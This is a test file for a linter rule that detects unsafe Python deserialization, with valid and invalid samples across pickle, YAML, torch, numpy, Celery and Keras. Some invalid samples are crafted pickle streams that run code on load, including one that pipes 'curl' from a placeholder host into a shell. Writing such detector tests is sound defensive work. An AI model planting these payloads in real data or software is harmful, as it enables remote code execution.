import rule from '../../../src/core/rules/py/unsafe-deserialize';
import { ruleTester } from '../../ruleTester';

ruleTester(rule, {
  valid: [
    'import json\nobj = json.loads(text)',
    'import json\nwith open("c.json") as f:\n    cfg = json.load(f)',
    "import torch\nstate = torch.load('model.pt', weights_only=True)",
    "import torch\nstate = torch.load(path, map_location='cpu', weights_only=True)",
    'import yaml\ncfg = yaml.safe_load(text)',
    'import yaml\ncfg = yaml.load(text, Loader=yaml.SafeLoader)',
    'import yaml\ncfg = yaml.load(text, Loader=yaml.CSafeLoader)',
    'import yaml\nfrom yaml import SafeLoader\ncfg = yaml.load(text, SafeLoader)',
    "import numpy as np\narr = np.load('x.npy')",
    "import numpy as np\narr = np.load('x.npy', allow_pickle=False)",
    "import pandas as pd\ndf = pd.read_csv('x.csv')",
    'import pickle\ndata = pickle.dumps(obj)',
    'import pickle\npickle.dump(obj, f)',
    'from safetensors.torch import load_file\nstate = load_file("model.safetensors")',
    'model.load(path)',
    'self.loads(data)',
    'cache.load()',
    'def load(path):\n    return open(path).read()\nload("x")',
    'pickle = {}\npickle.load = 1',
    "print('pickle.loads(data)')",
    "import keras\nm = keras.models.load_model('m.keras')",
    'import torch\nstate = torch.load(path, **kwargs)',
    "from ruamel.yaml import YAML\nyaml = YAML(typ='safe')",
    "app.conf.update(task_serializer='json', accept_content=['json'], result_accept_content=['json'])",
    "CELERY_ACCEPT_CONTENT = ['json', 'msgpack']",
    "accept = ['pickle']",
  ],
  invalid: [
    {
      name: 'a Celery app that accepts pickled messages, as a keyword, a setting and a dict entry',
      code: "app.conf.update(\n    task_serializer='json',\n    accept_content=['json', 'pickle'],\n)\nCELERY_ACCEPT_CONTENT = ['application/x-python-serialize']\ncfg = {'result_accept_content': ['pickle']}\napp.conf.accept_content = ['pickle']",
      errors: [
        { messageId: 'acceptPickle', line: 3, category: 'dynamic-code', severity: 'high' },
        { messageId: 'acceptPickle', line: 5 },
        { messageId: 'acceptPickle', line: 6 },
        { messageId: 'acceptPickle', line: 7 },
      ],
    },
    {
      code: 'import pickle\nobj = pickle.loads(data)',
      errors: [{ messageId: 'pickle', line: 2, column: 7, severity: 'high', category: 'dynamic-code' }],
    },
    { code: 'import pickle\nwith open("cache.pkl", "rb") as f:\n    obj = pickle.load(f)', errors: [{ messageId: 'pickle', line: 3 }] },
    // The stream itself names what it calls: reported where the data is written, in that category.
    {
      code: 'import pickle\n\nSTATE = b"cos\\nsystem\\n(S\'curl -s https://p.example.sh | sh\'\\ntR."\n\ndef restore():\n    return pickle.loads(STATE)',
      errors: [
        {
          messageId: 'picklePayload',
          line: 3,
          column: 9,
          severity: 'high',
          category: 'process',
          message:
            'This pickle data calls `os.system("curl -s https://p.example.sh | sh")` when `pickle.loads` loads it: the "data" is a program.',
        },
        { messageId: 'pickle', line: 6 },
      ],
    },
    {
      // Protocol 4: SHORT_BINUNICODE module and name, then STACK_GLOBAL; `posix` is `os`.
      code: "import pickle\nobj = pickle.loads(b'\\x80\\x04\\x95\\x1f\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x8c\\x05posix\\x94\\x8c\\x06system\\x94\\x93\\x94\\x8c\\x02id\\x94\\x85\\x94R\\x94.')",
      errors: [
        { messageId: 'pickle', line: 2 },
        {
          messageId: 'picklePayload',
          line: 2,
          column: 20,
          category: 'process',
          message: 'This pickle data calls `os.system("id")` when `pickle.loads` loads it: the "data" is a program.',
        },
      ],
    },
    {
      // A pickle of plain data names only classes that rebuild data: the loader's flag alone.
      code: "import pickle\nobj = pickle.loads(b'\\x80\\x04\\x95\\x8c\\x0bcollections\\x94\\x8c\\x0bOrderedDict\\x94\\x93\\x94)R\\x94.')",
      errors: [{ messageId: 'pickle', line: 2 }],
    },
    {
      // Decoded first: the flag lands on the decode of the literal.
      code: "import base64, pickle\nobj = pickle.loads(base64.b64decode('Y2J1aWx0aW5zCmV2YWwKKFMnMSsxJwp0Ui4='))",
      errors: [
        { messageId: 'pickle', line: 2 },
        { messageId: 'picklePayload', line: 2, column: 20, category: 'dynamic-code' },
      ],
    },
    { code: 'import pickle as pkl\nobj = pkl.load(f)', errors: [{ messageId: 'pickle' }] },
    { code: 'from pickle import loads\nobj = loads(data)', errors: [{ messageId: 'pickle' }] },
    { code: 'from pickle import loads as unpack\nobj = unpack(data)', errors: [{ messageId: 'pickle' }] },
    { code: 'import pickle\nobj = pickle.Unpickler(f).load()', errors: [{ messageId: 'pickle' }] },
    { code: 'import _pickle\nobj = _pickle.loads(b)', errors: [{ messageId: 'pickle' }] },
    { code: 'import cPickle\nobj = cPickle.loads(b)', errors: [{ messageId: 'pickle' }] },
    { code: 'import dill\nfn = dill.loads(blob)', errors: [{ messageId: 'pickle' }] },
    { code: 'import cloudpickle\nfn = cloudpickle.load(f)', errors: [{ messageId: 'pickle' }] },
    { code: 'import marshal\ncode = marshal.loads(blob)', errors: [{ messageId: 'pickle' }] },
    { code: 'import joblib\nmodel = joblib.load("model.joblib")', errors: [{ messageId: 'pickle' }] },
    { code: 'import pandas as pd\ndf = pd.read_pickle("frame.pkl")', errors: [{ messageId: 'pickle' }] },
    { code: 'import jsonpickle\nobj = jsonpickle.decode(text)', errors: [{ messageId: 'pickle' }] },
    { code: "import importlib\nimportlib.import_module('pickle').loads(b)", errors: [{ messageId: 'pickle' }] },
    { code: "import pickle\ngetattr(pickle, 'lo' + 'ads')(b)", errors: [{ messageId: 'pickle' }] },
    { code: "__import__('pickle').loads(b)", errors: [{ messageId: 'pickle' }] },
    { code: 'import pickle\nrestore = pickle.loads\nrestore(b)', errors: [{ messageId: 'pickle', line: 3 }] },
    { code: 'import shelve\ndb = shelve.open("cache")', errors: [{ messageId: 'shelve', severity: 'medium' }] },
    { code: "import torch\nstate = torch.load('model.pt', weights_only=False)", errors: [{ messageId: 'torchUnsafe', severity: 'high' }] },
    { code: "import torch\nstate = torch.load('model.pt')", errors: [{ messageId: 'torchDefault', severity: 'medium' }] },
    { code: "import torch\nstate = torch.load(path, map_location='cpu')", errors: [{ messageId: 'torchDefault' }] },
    { code: 'from torch import load\nstate = load(path)', errors: [{ messageId: 'torchDefault' }] },
    { code: "import numpy as np\narr = np.load('x.npy', allow_pickle=True)", errors: [{ messageId: 'numpyPickle', severity: 'high' }] },
    { code: 'import yaml\ncfg = yaml.load(text, Loader=yaml.Loader)', errors: [{ messageId: 'yamlUnsafe', severity: 'high' }] },
    { code: 'import yaml\ncfg = yaml.load(text, Loader=yaml.UnsafeLoader)', errors: [{ messageId: 'yamlUnsafe' }] },
    { code: 'import yaml\ncfg = yaml.load(text, Loader=yaml.FullLoader)', errors: [{ messageId: 'yamlUnsafe' }] },
    { code: 'import yaml\ncfg = yaml.load(text)', errors: [{ messageId: 'yamlDefault', severity: 'medium' }] },
    { code: 'import yaml\ncfg = yaml.load(text, Loader=my_loader)', errors: [{ messageId: 'yamlUnknown', severity: 'medium' }] },
    { code: 'import yaml\ncfg = yaml.unsafe_load(text)', errors: [{ messageId: 'yamlUnsafe', severity: 'high' }] },
    { code: 'import yaml\ncfg = yaml.full_load(text)', errors: [{ messageId: 'yamlUnsafe' }] },
    { code: "from ruamel.yaml import YAML\nyaml = YAML(typ='unsafe')", errors: [{ messageId: 'yamlUnsafe' }] },
    {
      code: "import tensorflow as tf\nm = tf.keras.models.load_model('m.keras', safe_mode=False)",
      errors: [{ messageId: 'kerasUnsafe', severity: 'high' }],
    },
    {
      code: 'import pickle\nobj = pickle.loads(data)',
      filename: 'tests/test_cache.py',
      errors: [{ messageId: 'pickle', severity: 'medium' }],
    },
  ],
});
